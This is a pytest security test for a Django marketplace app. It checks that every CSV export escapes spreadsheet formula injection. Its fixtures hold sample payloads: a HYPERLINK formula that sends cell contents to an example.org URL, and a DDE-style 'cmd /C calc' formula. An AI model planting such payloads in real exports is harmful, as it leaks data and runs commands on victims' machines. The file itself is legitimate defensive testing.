"""No CSV export of the URL conf lets a spreadsheet run a formula.

Every route whose URL ends in ``.csv`` is downloaded by its owner (its arguments from
tests/security/objects.py; every table of the outcome exports) while a client, a
site and an organisation carry names that a spreadsheet would run as formulas. Every
text cell must come out escaped (``marketplace.shared.csv``).
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.utils import timezone

from marketplace.models import AttendanceDay
from marketplace.outcomes.report import TABLE_SLUGS
from marketplace.shared.csv import FORMULA_START, escape_cell
from tests.security.objects import REGISTRY, Realm, with_work_share
from tests.security.urlconf import Route, our_routes

CLIENT_NAME = '=HYPERLINK("https://example.org/?d="&A1;"Avaa")'
SITE_TITLE = "+SUM(1;2)*cmd|' /C calc'!A0"
ORGANISATION_NAME = "@Kuvaamo ry"
#: who downloads a CSV whose URL has no object of its own
NO_OBJECT_OWNER = {"outcomes_export_csv": "organiser"}


def csv_routes() -> list[Route]:
    return [r for r in our_routes() if r.route.endswith(".csv")]


def variants(route: Route, realm: Realm) -> list[dict[str, Any]]:
    if route.name == "outcomes_export_csv":
        return [{"table": slug} for slug in TABLE_SLUGS]
    return REGISTRY[route.name].build(realm)


def owner(route: Route) -> str:
    entry = REGISTRY.get(route.name or "")
    who = entry.owner if entry and entry.owner else NO_OBJECT_OWNER.get(route.name)
    assert who, f"{route.name}: say who downloads it (NO_OBJECT_OWNER)"
    return who


def cells(response: Any) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [
        cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row
    ]


@pytest.fixture
def named(realms: Any) -> Realm:
    _home, away = realms
    person = away["person"]
    person.name = CLIENT_NAME
    person.save(update_fields=["name"])
    away["site"].title = SITE_TITLE
    away["site"].save()
    away["unit"].name = ORGANISATION_NAME
    away["unit"].save(update_fields=["name"])
    AttendanceDay.objects.create(placement=away["placement"], date=timezone.localdate())
    with_work_share(away)
    return away


def test_there_are_csv_exports_to_check() -> None:
    assert {r.name for r in csv_routes()} >= {
        "site_attendance_csv",
        "client_attendance_csv",
        "work_share_statement_csv",
        "outcomes_export_csv",
    }


@pytest.mark.parametrize("route", csv_routes(), ids=lambda r: r.name)
def test_no_csv_cell_starts_a_formula(client: Any, named: Realm, route: Route) -> None:
    # Given the owner of the export, and names that are formulas
    client.force_login(named[owner(route)])
    found: list[str] = []
    unsafe: list[str] = []
    # when they download every variant of the export
    for kwargs in variants(route, named):
        response = client.get(route.url(**kwargs))
        assert response.status_code == 200, (route.name, kwargs)
        assert response["Content-Type"].startswith("text/csv")
        for cell in cells(response):
            if cell.startswith(FORMULA_START) and escape_cell(cell) != cell:
                unsafe.append(cell)
            found += [
                n for n in (CLIENT_NAME, SITE_TITLE, ORGANISATION_NAME) if n in cell
            ]
    # then no cell would run as a formula
    assert unsafe == []
    # and the names are there, as text (the test saw what it guards against)
    assert found, f"{route.name} showed none of the names"


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+A1", "-1+2", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("a")', "-"],
)
def test_formula_starts_are_escaped(text: str) -> None:
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "-0,5", "+2", "12,5 %", "-1 234,50", "Aino"])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert escape_cell(text) == text
